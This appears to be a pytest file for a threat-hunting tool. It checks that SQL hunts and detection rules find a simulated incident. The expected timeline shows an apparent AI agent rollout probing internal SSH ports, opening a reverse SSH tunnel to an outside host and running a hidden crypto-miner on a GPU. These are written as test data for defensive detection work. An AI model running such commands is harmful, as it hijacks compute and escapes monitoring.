"""Every SQL that is shown or shipped is a hunt that works: it runs in the locked worker."""

import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pyarrow as pa
import pytest
from limes.cli.layout import arranged
from limes.cli.show.hunts import columns
from limes.control.hunt.config import HuntConfig
from limes.control.hunt.library import shipped_hunts
from limes.control.rules.load import load_pack, shipped_packs
from rich.console import Console

ROOT = Path(__file__).parents[3]
PAGE = (ROOT / "docs" / "hunting.md").read_text(encoding="utf-8")
EXAMPLES = re.findall(r"^### (.+?)\n.*?^```sql\n(.+?)^```", PAGE, re.MULTILINE | re.DOTALL)
RULES = {rule.name: rule for pack in shipped_packs() for rule in load_pack(pack).rules}
# Rules whose condition the played incident meets, without the engine that keeps signals.
FIRING = {
    "egress_to_unlisted_destination",
    "gpu_use_by_undeclared_program",
    "internal_probing",
    "miner_command_line",
    "ssh_tunnel_command_line",
}

Run = Callable[..., tuple[pa.Table, Any]]


def test_page_shows_enough_hunts() -> None:
    """Every SQL block of the page is found by this test, each under a heading of its own."""
    assert len(EXAMPLES) == PAGE.count("```sql") >= 8


@pytest.mark.parametrize(("heading", "sql"), EXAMPLES, ids=[heading for heading, _ in EXAMPLES])
def test_example_answers_its_question(heading: str, sql: str, run: Run) -> None:
    """An example of the page runs as it stands and finds what the played incident has for it."""
    table, summary = run(sql)
    assert table.num_rows == summary.rows > 0, heading
    assert summary.limit == ""
    assert sql.startswith("-- "), "it says what it answers"


@pytest.mark.parametrize("width", [80, 100, 200])
@pytest.mark.parametrize("name", shipped_hunts())
def test_shipped_hunt_fits_a_terminal(name: str, width: int, run: Run) -> None:
    """A table from 100 columns on; a simulated device is shown as one."""
    table, _ = run(shipped_hunts()[name].sql)
    assert table.num_rows > 0
    console = Console(width=width, record=True, file=io.StringIO())
    console.print(arranged(columns(table), width))
    text = console.export_text()
    assert max(map(len, text.splitlines())) <= width
    assert width < 100 or f"1 of {table.num_rows}" not in text
    joined = " ".join(text.split())
    assert "nvidia3 (simulated" in joined
    assert joined.count("simulated") == joined.count("device)")


def test_timeline_is_that_of_the_alerting_cgroup(run: Run) -> None:
    """The timeline holds what the job of the worst alert did, in order, and nothing else."""
    table, _ = run(shipped_hunts()["everything_the_alerting_cgroup_did"].sql)
    rows = table.to_pylist()
    assert [row["at"] for row in rows] == sorted(row["at"] for row in rows)
    assert [(row["program"], row["what"]) for row in rows] == [
        ("python3.11", "ran python3 agent.py --rollout 8f3"),
        ("dash", "ran sh -c ./probe"),
        ("python3.11", "ran python3 -c import socket"),
        ("python3.11", "was refused by 10.20.0.1 port 22 and 20 more"),
        ("python3.11", "got no answer from 10.20.0.22 port 22 and 8 more"),
        ("ssh", "ran ssh -N -R 2222:localhost:22 u@203.0.113.9"),
        ("ssh", "connected to 203.0.113.9 port 22, 1.1 MiB out, 39.0 KiB in"),
        (".t", "ran /dev/shm/.t --url stratum+tcp://203.0.113.7:3333"),
        (".t", "connected to 203.0.113.7 port 3333, 8.7 KiB out, 10.7 KiB in"),
        (".t", "made 4000 calls on nvidia3 (simulated device)"),
        ("ALERT", "critical tunnel_or_pool_with_gpu"),
        ("ALERT", "high ssh_tunnel_command_line"),
    ]


@pytest.mark.parametrize("name", RULES)
def test_file_of_a_rule_runs_as_a_hunt(name: str, run: Run) -> None:
    """The SQL of each shipped rule runs over the whole snapshot, and finds the incident."""
    table, _ = run(RULES[name].sql)
    if name in FIRING:
        assert table.num_rows > 0
        assert set(table.column("cgroup_path").to_pylist()) == {"/slurm/job_4711"}


def test_every_rule_that_should_fire_is_shipped() -> None:
    """The list above names rules that exist."""
    assert set(RULES) >= FIRING


def test_page_names_every_limit() -> None:
    """Each key of `[hunt]` is in the page's table of limits, with its default."""
    for field in msgspec.structs.fields(HuntConfig):
        default = f"{field.default:,}" if isinstance(field.default, int) else f'"{field.default}"'
        assert re.search(rf"^\| `{field.name}` \| {re.escape(default)} \| ", PAGE, re.MULTILINE), (
            f"{field.name}: {default}"
        )
